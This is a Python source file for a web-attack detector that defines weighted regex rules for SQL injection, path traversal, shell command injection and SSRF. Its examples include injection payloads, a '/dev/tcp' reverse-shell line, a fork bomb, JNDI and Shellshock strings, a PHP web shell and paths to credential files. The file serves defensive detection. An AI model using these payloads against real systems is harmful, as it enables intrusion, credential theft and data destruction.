"""Web-attack signals: SQL injection, XSS, path traversal, shell command injection and SSRF targets.

Each rule is one signal with a weight (`score`); the detector combines the signals of a family
(noisy-or), so one weak signal stays below the blocking level and several together reach it.
Patterns are RE2 (linear time); encoded payloads are matched on the decoded views.
"""

from __future__ import annotations

from bastion.core.rules import Rule
from bastion.core.types import Severity
from bastion.detectors.webattack_xss import XSS, XSS_RULES

__all__ = ["CMDI", "FAMILY_MESSAGES", "RULES", "SQLI", "SSRF", "TRAVERSAL", "XSS"]

SQLI = "webattack.sqli"
TRAVERSAL = "webattack.path_traversal"
CMDI = "webattack.cmdi"
SSRF = "webattack.ssrf"

FAMILY_MESSAGES = {
    SQLI: "SQL injection syntax",
    XSS: "script or external-entity injection into HTML or XML (XSS, XXE)",
    TRAVERSAL: "path traversal or a sensitive file path",
    CMDI: "shell command injection",
    SSRF: "URL pointing at an internal or metadata address (SSRF)",
}

_S = Severity.HIGH  # rules carry a severity for the table's sake; the detector sets the finding's
# Commands that are also everyday English words; after a separator they need more context.
_ENGLISH = (
    "time more less type find set make head host top mail service source alias fetch tee halt id"
    " exec eval"
)
_UNIX = (
    r"(?:cat|tac|nl|head|tail|more|less|ls|dir|id|whoami|uname|hostname|ifconfig|ipconfig|netstat"
    r"|ps|wget|curl|nc|ncat|netcat|socat|telnet|ssh|scp|ftp|tftp|bash|sh|zsh|ksh|csh|dash|python\d?"
    r"|perl|ruby|php|node|lua|ping|nslookup|dig|host|traceroute|rm|mv|cp|chmod|chown|touch|mkdir"
    r"|echo|printf|sleep|kill|killall|pkill|env|export|set|unset|sudo|su|crontab|base64|xxd|od"
    r"|powershell|pwsh|cmd|net|certutil|bitsadmin|reg|wmic|systeminfo|tasklist|taskkill|type|find"
    r"|grep|awk|sed|vi|vim|nano|dd|tar|zip|unzip|gzip|gcc|cc|make|eval|exec|time|timeout|nohup"
    r"|xargs|tee|mail|sendmail|useradd|passwd|shutdown|reboot|halt|mount|apt|aptitude|apt-get|yum"
    r"|dnf|rpm|dpkg|pip|npm|git|docker|kubectl|systemctl|service|chroot|strace|gdb|rmt|top|ansible"
    r"|ansible-pull|cpulimit|alias|source|awk|openssl|jq|lwp-download|fetch|aria2c|busybox)"
)

_PLAIN = "(?:" + "|".join(w for w in _UNIX[3:-1].split("|") if w not in _ENGLISH.split()) + ")"
_WORDY = "(?:" + "|".join(_ENGLISH.split()) + r")\s+[-/$~.'\"]"

RULES: tuple[Rule, ...] = (
    # --- SQL injection ---------------------------------------------------------------------
    Rule(
        id="sqli.union_select",
        code=SQLI,
        pattern=r"(?i)(?:\b|\d[df]?)union\b[\s/*+()#\-!]*(?:all\b|distinct\b)?[\s/*+()#\-!]*\(*\s*select\b",
        severity=_S,
        score=0.9,
        message="UNION SELECT",
        examples=(
            "1 union select 1,2,3",
            "x')/**/UNION/**/ALL/**/SELECT null--",
            "1DUNION SELECT 2",
        ),
        counterexamples=("the union selected a new leader", "European Union"),
    ),
    Rule(
        id="sqli.tautology",
        code=SQLI,
        pattern=(
            r"(?i)['\"`)]\s*\)*\s*(?:or|and|xor|\|\||&&)\s*\(*\s*(?:['\"][\w@]*['\"]|[\w@]+)\s*(?:=|<>|!=|<|>"
            r"|\blike\b|\bis\b|\bin\b|\bregexp\b|\brlike\b|between\b)"
            r"|(?i)\b(?:or|and|xor|having|where)\s+\(*\s*(?:\d+|'[^']*'|\"[^\"]*\"|true|false|null"
            r"|@@?\w+)\s*(?:=|<>|!=|<=>|>=|<=|<|>|\blike\b)\s*(?:\d+|'|\"|true|false|null|@@?\w+|\()"
        ),
        severity=_S,
        score=0.8,
        message="boolean tautology after a quote",
        examples=("a' or 1='1", "1 OR 1=1", "' and 'x'='x", "admin' or '1'='1'--"),
        counterexamples=("1060 OR 70S", "rock and roll", 'MEASURES 18" AND IS MADE OF BRASS'),
    ),
    Rule(
        id="sqli.quote_keyword",
        code=SQLI,
        pattern=(
            r"(?i)['\"`]\s*\)*\s*(?:;|\|\||\bor\b|\band\b|\bunion\b|\bselect\b|\bhaving\b|\border\s+by"
            r"\b|\bgroup\s+by\b|\bwaitfor\b|\bexec\b|\binto\b|\bprocedure\b|\blimit\b|\bdiv\b"
            r"|\bxor\b|\bregexp\b|\blike\b|\bwhere\b|\bcollate\b|\+|\|\||--|#|/\*)"
        ),
        severity=_S,
        score=0.2,
        message="a quote closed and followed by SQL",
        examples=("x' or", "'; drop table users--", "admin'--", "1' order by 3"),
        counterexamples=("it's raining", '"hello world"'),
    ),
    Rule(
        id="sqli.stacked",
        code=SQLI,
        pattern=(
            r"(?i);\s*(?:(?:drop|delete|insert|update|alter|create|truncate|shutdown"
            r"|declare|select|grant|revoke|rename|set\s+@)\b"
            r"|exec(?:ute)?\s*(?:\(|@|'|xp_|sp_|master\b|immediate\b))"
            r"|(?i)\bexec(?:ute)?\s+(?:xp_|sp_|master\.)\w+|\bexecute\s+(?:immediate|as\s+login)\b"
        ),
        severity=_S,
        score=0.8,
        message="stacked SQL statement",
        examples=(
            "1; DROP TABLE users",
            "x;shutdown--",
            "1;exec xp_cmdshell 'dir'",
            " EXEC sp_who",
        ),
        counterexamples=("milk; bread; eggs", "see you; call me later", "1; exec will do"),
    ),
    Rule(
        id="sqli.functions",
        code=SQLI,
        pattern=(
            r"(?i)\b(?:sleep|benchmark|pg_sleep|load_file|extractvalue|updatexml|group_concat"
            r"|concat_ws|information_schema|sysobjects|syscolumns|sqlite_master|pg_catalog"
            r"|xp_cmdshell|sp_executesql|sp_password|utl_http|dbms_\w+|make_set|elt|exp|floor\s*\("
            r"\s*rand|geometrycollection|multipoint|polygon|linestring|json_keys|name_const"
            r"|row_count|found_rows|last_insert_id|char|chr|nchar|ascii|ord|hex|unhex|substr"
            r"|substring|mid|instr|locate|version|database|schema|user|current_user|system_user"
            r"|session_user|count|cast|convert|isnull|ifnull|nullif|coalesce|if|iif|case|length"
            r"|len|lower|upper|reverse|concat|md5|sha1|rand|randomblob|unicode|ltrim|rtrim)\s*\("
            r"|(?i)@@(?:version|datadir|hostname|basedir|tmpdir|servername|identity|\w+)"
            r"|(?i)\bwaitfor\s+(?:delay|time)\b|\binformation_schema\b|\bsysobjects\b"
        ),
        severity=_S,
        score=0.4,
        message="SQL function or system variable",
        examples=("sleep(5)", "@@version", "extractvalue(1,concat(0x7e,user()))", "WAITFOR DELAY"),
        counterexamples=("Let me sleep on it", "the version is 2.1"),
    ),
    Rule(
        id="sqli.database_function",
        code=SQLI,
        pattern=(
            r"(?i)\b(?:pg_sleep|benchmark|extractvalue|updatexml|load_file|group_concat|sysdate"
            r"|db_name|database|schema_name|user_name|current_database|pg_read_file|utl_inaddr"
            r"|utl_http|dbms_\w+|xp_cmdshell|find_in_set|make_set|name_const|randomblob"
            r"|sqlite_version|is_srvrolemember|has_dbaccess|quotename|char_length)\("
        ),
        severity=_S,
        score=0.5,
        message="a function only databases have",
        examples=("DATABASE(", "pg_sleep(5)", "1 and extractvalue(1,0x7e)", "BENChmARk("),
        counterexamples=("the database (v2) is down", "a benchmark (2024) of sorts"),
    ),
    Rule(
        id="sqli.postgres_json",
        code=SQLI,
        pattern=(
            r"(?i)(?:['\")]|\b\w+)\s*::\s*(?:jsonb?|text|int[248]?|integer|bool(?:ean)?|varchar"
            r"|numeric|double\s+precision|regclass|bytea|oid|xml|inet)\b"
            r"|['\")]\s*(?:<@|@>|->>?|#>>?|\?\||\?&|@\?|@@)\s*['\"(]"
        ),
        severity=_S,
        score=0.5,
        message="a PostgreSQL cast or JSON operator on a literal",
        examples=("'[1, 2]'::jsonb || '3'", "lo_get(16400)::text", "'{\"b\":2}' <@ '{\"a\":1}'"),
        counterexamples=("std::string name", "see ::before in CSS", "a -> b"),
    ),
    Rule(
        id="sqli.file_access",
        code=SQLI,
        pattern=r"(?i)\binto\s+(?:out|dump)file\b|\bload\s+(?:data|xml)\s+(?:local\s+)?infile\b",
        severity=_S,
        score=0.8,
        message="SQL that writes or reads a server file",
        examples=("1 into outfile 'asd'", "1;load xml local infile 'foo'"),
        counterexamples=("log into outlook", "load the data file"),
    ),
    Rule(
        id="sqli.time_delay",
        code=SQLI,
        # Blind injection stalls the database to read one bit per request; a method call
        # (`time.sleep(5)`, `Thread.sleep(100)`) is program code, not SQL.
        pattern=(
            r"(?i)(?:^|[^\w.$>:-])(?:sleep|pg_sleep|benchmark)\s*\(\s*(?:[-+(]*\s*\d|$|\)\s*$"
            r"|[@'\"]|(?:select|now|rand|md5|sha1)\b)|(?i)\bwaitfor\s+(?:delay|time)\s*(?:['\"]|\d)"
            r"|(?i)\bdbms_(?:pipe\.receive_message|lock\.sleep|session\.sleep)\b"
            r"|(?i)\brandomblob\s*\(\s*\d{6,}|(?i)\bpg_sleep_for\s*\("
        ),
        severity=_S,
        score=0.75,
        message="SQL time delay (blind injection)",
        examples=(
            "sleep(5)#",
            "SLEEP   (",
            "1 or pg_sleep(10)--",
            "benchmark(5000000,md5(1))",
            "; waitfor delay '0:0:5'--",
            "dbms_pipe.receive_message(('a'),10)",
        ),
        counterexamples=(
            "time.sleep(5)",
            "Thread.sleep(100)",
            "$this->sleep(2)",
            "sleep mode (5 min)",
            "I need sleep (lots of it)",
        ),
    ),
    Rule(
        id="sqli.conditional",
        code=SQLI,
        # Boolean-blind injection asks its question as a condition on literals.
        pattern=(
            r"(?i)\bcase\s+when\s+\(*\s*(?:\d+|'[^']*'|@+\w+|\w+\s*\()\s*(?:=|<>|!=|<|>|like\b|is\b)"
            r"|(?i)\b(?:if|iif)\s*\(\s*\(*\s*(?:\d+|'[^']*'|@+\w+)\s*(?:=|<>|!=|<|>)"
        ),
        severity=_S,
        score=0.6,
        message="SQL condition on literals (boolean-blind injection)",
        examples=("(CASE WHEN 4518=5617 THEN 1 ELSE NULL END)", "if(1234=", "IF(1=1,SLEEP(5),0)"),
        counterexamples=("in case when 5 people come", "if (x == 1) { y(); }", "if(count > 3)"),
    ),
    Rule(
        id="sqli.nosql_operator",
        code=SQLI,
        # MongoDB query operators smuggled in through a form field (`user[$ne]=x`) or a JSON body
        # (`{"$where": ...}`): the value turns from data into a query.
        pattern=(
            r"\[\s*\$(?:ne|eq|gt|gte|lt|lte|in|nin|regex|where|exists|not|nor|or|and|elemMatch"
            r"|expr|text|type|size|all|mod|jsonSchema)\s*\]|(?i)[\"']\$(?:ne|gt|gte|lt|lte|nin"
            r"|regex|where|exists|not|nor|or|elemMatch|expr|text|function|accumulator)[\"']\s*:"
        ),
        severity=_S,
        score=0.75,
        message="NoSQL query operator in a value",
        examples=(
            "username[$ne]=toto&password[$ne]=toto",
            "login[$regex]=a.*&pass[$ne]=1",
            '{"username": {"$ne": null}, "password": {"$ne": null}}',
            '{"$where": "sleep(100)"}',
        ),
        counterexamples=('{"price": "$10"}', "cost[$] = 5", "pay $ne 5"),
    ),
    Rule(
        id="sqli.comment",
        code=SQLI,
        pattern=r"(?i)/\*!?\d*|\*/|['\"`)\d]\s*(?:--|#|;\s*--|;\s*#|%00)|--\s*$|\bor\b\s*--",
        severity=_S,
        score=0.35,
        message="SQL comment",
        examples=("1/**/or/**/1", "admin'--", "5)#", "/*!50000select*/"),
        counterexamples=("email me -- thanks", "item #4"),
    ),
    Rule(
        id="sqli.number_then_comment",
        code=SQLI,
        # A whole value that is a number or variable (or arithmetic on them) and then a bare
        # comment: it ends the query right after itself.
        pattern=(
            r"^\s*\(*\s*(?:[-+]?\d+(?:\.\d+)?|@@?\w+)(?:\s*[-+*/%]\s*(?:[-+]?\d+(?:\.\d+)?|@@?\w+))*"
            r"\s*\)*\s*(?:--[\s+-]*|#|/\*)\s*$"
        ),
        severity=_S,
        score=0.4,
        message="a number and a comment that cuts the query",
        examples=("1  --", "1 * 1 --", "@version --", "-1#", "1 * 1  /*"),
        counterexamples=("10/10 -- would buy again", "item 5 #", "2019--2020"),
    ),
    Rule(
        id="sqli.statement",
        code=SQLI,
        pattern=(
            r"(?i)\bselect\s+[\w.*,`]+\s+from\s+[\w.`]+\s+where\b|\binsert\s+into\b|\bupdate\b\s+\w+\s+\bset\b"
            r"|\bdelete\s+from\b|\bdrop\s+(?:table|database|schema|view|function|procedure)\b"
            r"|\border\s+by\s+\d|\bgroup\s+by\b.{0,40}\bhaving\b|\bexec(?:ute)?\s+(?:master|xp_|sp_)"
            r"|\bcreate\s+(?:table|user|function|procedure|trigger)\b|\balter\s+table\b"
            r"|\btruncate\s+table\b|\bdeclare\s+@|\bcase\s+when\b.{0,80}\bthen\b"
            r"|\b(?:like|=)\s*0x[0-9a-f]{2,}|\bselect\s+(?:\*|\d|null|@|'|\"|\(|count|top|distinct"
            r"|char|concat|case|if|sleep|user|version|database|pg_|name|table_name|column_name)"
            r"|\bunion\s+all\b|\bprocedure\s+analyse\b|\binto\s+(?:out|dump)file\b"
            r"|\bunion\b[\s(]*\(?\s*select|\bselect\s*\(|\bnull\s*,\s*null\b|\b\d+\s*,\s*\d+\s*,"
            r"\s*\d+\s*,\s*\d+"
        ),
        severity=_S,
        score=0.5,
        message="SQL statement",
        examples=(
            "SELECT name FROM users WHERE id=1",
            "insert into t values(1)",
            "order by 5",
            "select(1)",
        ),
        counterexamples=("please select a size from the menu list", "drop me a line"),
    ),
    Rule(
        id="sqli.operators",
        code=SQLI,
        pattern=(
            r"(?i)(?:^|[\s'\"(=])(?:-?\d+|'[^']*'|\"[^\"]*\")\s*(?:\|\||&&|\bdiv\b|\bxor\b|\bmod\b"
            r"|<=>|\^|\brlike\b|\bregexp\b|\bsounds\s+like\b)\s*[-+~!(]*\s*[\w'\"@(]"
            r"|(?i)\b(?:or|and)\s+(?:not\s+)?(?:exists|\d+\s*(?:between|in\b)|[\w.]+\s+(?:is\s+"
            r"(?:not\s+)?null|in\s*\(|between\b))|(?i)['\"]\s*(?:\+|\|\|)\s*['\"]?\w|(?i)^\s*[-+]?\d+"
            r"\s*\)+\s*(?:or|and|union|select|\)|;|--|#)|(?i)\bis\s+not\s+null\b|(?i)\b(?:true|false)"
            r"\s*(?:=|<>|!=)|(?i)^\s*['\"]\s*(?:\)|;|,|\+|=|\||&)"
        ),
        severity=_S,
        score=0.4,
        message="SQL operator after a value",
        examples=("1 || 2", "1 xor 1", "x' + 'y", "1) or (1", "'="),
        counterexamples=("rock and roll", "apples, oranges"),
    ),
    # --- XSS: see webattack_xss -------------------------------------------------------------
    *XSS_RULES,
    # --- path traversal ----------------------------------------------------------------------
    Rule(
        id="traversal.dot_dot",
        code=TRAVERSAL,
        pattern=(
            r"(?:\.\.\.?[\\/;]|[\\/]\.\.\.?(?:[\\/;]|$)|\.\.(?:%2f|%5c|%c0%af|%c1%9c|%252f|%255c)"
            r"|%2e%2e|%252e|\.%2e|%2e\.|0x2e0x2e|\.\.\\|\.\.;)"
        ),
        severity=_S,
        score=0.5,
        message="parent-directory sequence",
        examples=("../../etc/passwd", "..\\windows", "%2e%2e%2f", "..;/"),
        counterexamples=("wait... what?", "version 1..3"),
    ),
    Rule(
        id="traversal.climb",
        code=TRAVERSAL,
        pattern=(
            r"\.\.[\\/;]\.\.[\\/;]|(?:^|[=\s\"'(,:])\.\.\.?[\\/;][\w.%~]|\.\.(?:%00|\x00)"
            r"|(?i)(?:%2e|%252e|%c0%ae|%e0%80%ae|%c0%2e|%u002e|%uff0e|0x2e){2}"
            r"|(?i)\.\.(?:%2f|%5c|%252f|%255c|%c0%af|%c1%9c|%c1%1c|%e0%80%af|%u2215|%u2216|0x5c|0x2f)"
            r"|(?i)0x5c0x2e|(?i)\\\.\.|\.\.;|(?:^|[\\/=])\.{4,}[\\/]"
        ),
        severity=_S,
        score=0.75,
        message="climbing out of the directory: repeated, leading or encoded parent steps",
        examples=(
            "../../etc/passwd",
            "..%252f..%252f",
            "%c0%ae%c0%ae/",
            "file=../x",
            "..;/",
            "....//WEB-INF/web.xml",
        ),
        counterexamples=("see docs/../README for details", "wait... what?", '<a href="../">up</a>'),
    ),
    Rule(
        id="traversal.sensitive_file",
        code=TRAVERSAL,
        pattern=(
            r"(?i)/etc/(?:passwd|shadow|group|hosts|issue|sudoers|crontab|apache2|nginx|httpd|ssh"
            r"|mysql|\[|\*|\?)|(?i)/proc/(?:self|\d+|sys|version|cpuinfo)|(?i)/root/\.|(?i)/\.ssh/"
            r"|(?i)\bid_rsa\b|(?i)/\.aws/credentials|(?i)\bwin\.ini\b|(?i)\bboot\.ini\b"
            r"|(?i)windows[\\/]system32|(?i)\bweb\.config\b|(?i)/var/log/|(?i)\.htaccess\b"
            r"|(?i)\.htpasswd\b|(?i)\bwp-config\.php\b|(?i)/etc/[a-z.\[\]*?!]+[a-z]"
            r"|(?i)/(?:e|\[e[^\]]*\])(?:t|\[t[^\]]*\]|\*|\?)(?:c|\*|\?)"
        ),
        severity=_S,
        score=0.6,
        message="sensitive system file path",
        examples=("/etc/passwd", "C:\\windows\\system32", "cat /root/.aws/credentials"),
        counterexamples=("etc. passwords are stored hashed", "the root of the tree"),
    ),
    Rule(
        id="traversal.secret_file",
        code=TRAVERSAL,
        # Files that hold credentials or a process's secrets; an argument naming one is the goal
        # of a traversal whether or not it climbs to get there.
        pattern=(
            r"(?i)/etc/(?:passwd|shadow|gshadow|sudoers|master\.passwd|security/passwd)\b"
            r"|(?i)/proc/(?:self|\d+)/(?:environ|cmdline|maps|mem|fd/)|(?i)\b(?:boot|win|system)\.ini\b"
            r"|(?i)system32[\\/]+config[\\/]+(?:sam|system|security)\b|(?i)/\.aws/credentials\b"
            r"|(?i)\bid_(?:rsa|dsa|ecdsa|ed25519)(?:$|[^.\w]|\.[^p])|(?i)/\.ssh/authorized_keys\b"
            r"|(?i)\.htpasswd\b|(?i)\bwp-config\.php\b|(?i)/\.(?:bash|zsh|mysql)_history\b"
            r"|(?i)/\.git/config\b|(?i)/\.env(?:$|[^\w.])|(?i)\bweb-inf[\\/]+web\.xml\b"
            r"|(?i)system32[\\/]+drivers[\\/]+etc[\\/]+hosts\b"
            r"|(?i)/var/log/(?:apache2?|httpd|nginx)/(?:access|error)[._]log\b"
        ),
        severity=_S,
        score=0.75,
        message="credential or secret-holding system file",
        examples=(
            "/etc/passwd",
            "/etc/shadow\x00",
            "/proc/self/environ",
            "C:\\boot.ini",
            "~/.ssh/id_rsa",
            "/var/www/.env",
        ),
        counterexamples=("how do I reset my passwd", "~/.ssh/id_rsa.pub", "/srv/app/.envrc"),
    ),
    Rule(
        id="traversal.scheme",
        code=TRAVERSAL,
        pattern=r"(?i)\bfile:/|\b(?:php|zip|phar|expect|glob|jar|netdoc|gopher|dict)://",
        severity=_S,
        score=0.75,
        message="local file or wrapper URL scheme",
        examples=("file:///etc/passwd", "php://filter/resource=index.php"),
        counterexamples=("save the file to disk", "https://example.com"),
    ),
    # --- command injection -------------------------------------------------------------------
    Rule(
        id="cmdi.separator_command",
        code=CMDI,
        pattern=(
            rf"(?:[;&|`\n]|\$\(|\|\||&&)\s*[{{(]?\s*(?:/(?:usr/)?s?bin/)?(?:{_PLAIN}(?:[\s;&|`<>$]|$)|{_WORDY})"
            rf"|\$\(\s*[a-z]|`\s*(?:/(?:usr/)?s?bin/)?{_PLAIN}\b"
        ),
        severity=_S,
        score=0.85,
        message="command after a shell separator",
        examples=("x; cat /etc/passwd", "a && whoami", "$(id)", "`uname -a`", "|nc 1.2.3.4 80"),
        counterexamples=("milk; bread; cheese", "Tom & Jerry", "hello; time he came"),
    ),
    Rule(
        id="cmdi.shell_syntax",
        code=CMDI,
        pattern=(
            r"\$\{?IFS\}?|\$\{[a-z_]*\}|\{[a-z]+,[^}\s]*\}|/dev/(?:tcp|udp)/|(?i)/bin/(?:ba|z|k|da)?sh"
            r"\b|(?i)\bcmd(?:\.exe)?\s*/[ck]\b|(?i)\bpowershell(?:\.exe)?\s+-|<<<|\$\(\(|\bexec\s+\d"
            r"|(?i)\b(?:nc|ncat|netcat)\s+-[a-z]*e\b|(?i)\bsh\s+-c\b|(?i)\bbash\s+-[ci]\b"
            r"|(?i)\bcurl\s+[^\s]+\s*\|\s*(?:ba)?sh|\b(?:chmod\s+[+0-7]|wget\s+https?://|curl\s+"
            r"(?:-\w+\s+)*https?://)|\$'\\|\\\$\(|\{,|,\}|\w\$\{?\w+\}?\w|[a-z]'[a-z]{0,3}'[a-z]|[a-z]\"[a-z]{0,3}\"[a-z]"
            r"|/\[[^\]]+\]\w|\w\[[!^]?[a-z]\]\w|\?{1,3}/|/[a-z]*[*?][a-z]*/"
            r"|\(\)\s*\{\s*[\w:.]*(?:\(\))?\s*[|&]|\(\)\s*\{\s*:\s*;"
            r"|(?:^|[\s;|&])[<>]\(\s*[a-z][\w.-]*\s+[^\s)]"
            r"|(?i)\{\s*jndi\s*:|(?i)\$\{\s*(?:lower|upper|env|sys|date|::-)[\s:]"
        ),
        severity=_S,
        score=0.7,
        message="shell metacharacter syntax",
        examples=(
            "cat${IFS}/etc/passwd",
            "{cat,/etc/passwd}",
            "bash -i >& /dev/tcp/1.2.3.4/8080",
            ":(){ :|:& };:",
            "() { :; }; echo x",
            "diff <(cat a) b",
            "${jndi:ldap://x.example/a}",
            "${${lower:j}ndi:rmi://x.example/a}",
        ),
        counterexamples=("costs $5 {approx}", "what? really", "f = () { return x; }", "x <(y)"),
    ),
    Rule(
        id="cmdi.windows_batch",
        code=CMDI,
        pattern=(
            r"(?i)(?:^|[&|;(]\s*)(?:if\s+(?:/i\s+)?(?:not\s+)?(?:exist|defined|errorlevel|\S+\s*"
            r"(?:==|\bequ\b|\bneq\b|\blss\b|\bleq\b|\bgtr\b|\bgeq\b))|for\s+(?:/[dflr]\s+(?:[a-z]:\\\S*\s+)?)*"
            r"(?:\"[^\"]*\"\s+)?%%?\S*\s+in\s*\(|if\s+\"[^\"]*\"\s*==|set\s+/[ap]\s|call\s+:|goto\s+:?\w+|echo\s+(?:off|on)"
            r"\b|%comspec%|start\s+/b\b)"
        ),
        severity=_S,
        score=0.8,
        message="Windows batch control flow",
        examples=(
            'IF EXIST "temp.txt" ECHO found',
            "& FOR %@ IN (a,b,c) DO cmd",
            "IF 2 GEQ 15 x",
            'FOR /F "tokens=1 delims=," %%G IN (a.txt) DO ECHO %%G',
            "& FOR %/ IN (a,b,c) DO cmd",
            'For /R C:\\temp\\ %G IN (*.bak) do Echo del "%G"',
        ),
        counterexamples=("if you exist, reply", "for the win"),
    ),
    Rule(
        id="cmdi.server_side",
        code=CMDI,
        # Commands run by the server itself: server-side includes, PHP's process functions fed
        # from the request, and PHP's `${...}` interpolation calling a function.
        pattern=(
            r"(?i)<!--\s*#\s*(?:exec|include|echo|config|set|printenv|fsize|flastmod)\b"
            r"|(?i)\b(?:system|passthru|shell_exec|popen|proc_open|pcntl_exec)\(\s*(?:\$_"
            r"(?:get|post|request|cookie|server)\b|['\"]?(?:id|ls|whoami|cat|uname|dir|pwd|nc"
            r"|wget|curl|bash|sh|ping|nslookup)\b)|(?i)\$\{\s*@?(?:system|print|eval|exec"
            r"|phpinfo|passthru|shell_exec)\s*\("
        ),
        severity=_S,
        score=0.8,
        message="command run by the server (SSI directive, PHP process call)",
        examples=(
            '<!--#exec cmd="ls"-->',
            "<?php system($_GET['cmd']); ?>",
            "{${system(id)}}",
            "${@print(chr(122))}",
        ),
        counterexamples=("<!-- #main content -->", "the system (id card) office", "${name}"),
    ),
    Rule(
        id="cmdi.leading_command",
        code=CMDI,
        pattern=(
            rf"(?i)^\s*[;&|`'\"{{(]*\s*(?:/(?:usr/)?s?bin/)?{_UNIX}(?:\s+-{{1,2}}[a-z]|\s+['\"/~.$]"
            rf"|\s+\w+\s+\w+\s*$|\s*$|\s*[;&|<>`]|\s*\()"
        ),
        severity=_S,
        score=0.55,
        message="field starts with a shell command",
        examples=("ls foo bar", "cat /etc/hosts", ";aptitude", "whoami"),
        counterexamples=("catalog number 5", "time to go home now please"),
    ),
    # --- SSRF --------------------------------------------------------------------------------
    Rule(
        id="ssrf.internal_host",
        code=SSRF,
        pattern=(
            r"(?i)\b[a-z][a-z0-9+.-]*://(?:[^/@\s]*@)?(?:localhost|127\.\d{1,3}\.\d{1,3}\.\d{1,3}"
            r"|0\.0\.0\.0|0+(?:[:/]|$)|10\.\d{1,3}\.\d{1,3}\.\d{1,3}|192\.168\.\d{1,3}\.\d{1,3}"
            r"|172\.(?:1[6-9]|2\d|3[01])\.\d{1,3}\.\d{1,3}|169\.254\.\d{1,3}\.\d{1,3}"
            r"|100\.(?:6[4-9]|[7-9]\d|1[01]\d|12[0-7])\.\d{1,3}\.\d{1,3}"
            r"|metadata\.google\.internal|metadata(?:[:/]|$)|instance-data|[\w.-]*\.internal\b"
            r"|[\w.-]*\.local\b|[\w.-]*\.localhost\b|\[(?:::1?|0*:0*:0*:0*:0*:0*:0*:0*1|::ffff:[\d.:a-f]+"
            r"|f[cd][0-9a-f]{2}:[0-9a-f:]*|fe[89ab][0-9a-f]:[0-9a-f:%\w]*)\]"
            r"|\d{8,10}(?:[:/]|$)|0x[0-9a-f]{8}(?:[:/]|$)|0x[0-9a-f]{1,2}\.|0[0-7]{1,3}\.[0-7.]+"
            r"|\d{1,3}\.\d{1,3}\.\d{1,5}(?:[:/]|$)|\d{1,3}\.\d{1,8}(?:[:/]|$))"
        ),
        severity=_S,
        score=0.8,
        message="URL host is loopback, private, link-local or a cloud metadata service",
        examples=(
            "http://169.254.169.254/latest/meta-data/",
            "http://metadata.google.internal/computeMetadata/v1/",
            "http://127.0.0.1:8080/admin",
            "http://[::1]/",
            "http://2130706433/",
            "http://0x7f000001/",
            "gopher://10.0.0.5:6379/_",
            "http://[fd00::1]/",
        ),
        counterexamples=("https://example.com/page", "http://8.8.8.8/", "see 10.0.0.1 in the docs"),
    ),
)
